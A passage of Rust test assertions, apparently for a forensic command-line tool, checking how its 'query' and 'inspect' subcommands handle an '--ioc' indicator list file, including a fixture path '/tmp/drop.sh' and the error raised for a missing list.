    assert!(out.contains("path,contact,/tmp/drop.sh"), "{out}");
    let none = run_in(home.path(), &["query", &made, query]);
    assert!(none.out.is_empty() || !none.out.contains("drop.sh"), "{none:?}");
    let out = run_in(home.path(), &["inspect", &made, "--ioc", "list.txt"]).ok();
    assert!(out.contains("--ioc list.txt"), "{out}");
    let plain = run_in(home.path(), &["inspect", &made]).ok();
    assert!(!plain.contains("--ioc"), "{plain}");
    let bad = run_in(home.path(), &["query", &made, query, "--ioc", "nowhere.txt"]);
    assert!(bad.code == Some(2) && bad.err.contains("nowhere.txt"), "{bad:?}");
}
